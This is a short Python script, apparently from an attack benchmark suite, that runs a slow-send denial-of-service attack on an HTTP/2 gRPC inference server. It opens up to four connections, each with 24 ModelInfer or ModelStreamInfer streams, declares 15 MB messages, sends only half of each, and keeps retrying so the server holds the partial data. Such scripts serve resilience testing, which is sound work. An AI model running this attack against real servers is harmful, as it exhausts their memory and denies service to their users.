"""Messages of megabytes of which half is sent, on many calls, and then nothing more."""

import struct

from benchmarks.attacks.attacker import Aim, Http2, keep_trying, main

CLAIMED = 15 << 20
CALLS = 24
CONNECTIONS = 4


def run(aim: Aim) -> None:
    """Hold as much as the server's windows allow, from four addresses."""
    open_: list[Http2] = []

    def attack(count: int) -> None:
        if len(open_) >= CONNECTIONS:
            open_.pop(0).close()
        one = Http2(aim, count % CONNECTIONS)
        open_.append(one)
        streams = [one.begin("ModelInfer" if n % 2 else "ModelStreamInfer") for n in range(CALLS)]
        for stream in streams:
            one.data(stream, struct.pack(">BI", 0, CLAIMED))
        part = bytes(1 << 16)
        for _ in range(CLAIMED // 2 // len(part)):
            for stream in streams:
                one.data(stream, part)

    keep_trying(aim, attack)
    for each in open_:
        each.close()


if __name__ == "__main__":
    main(run, __doc__)
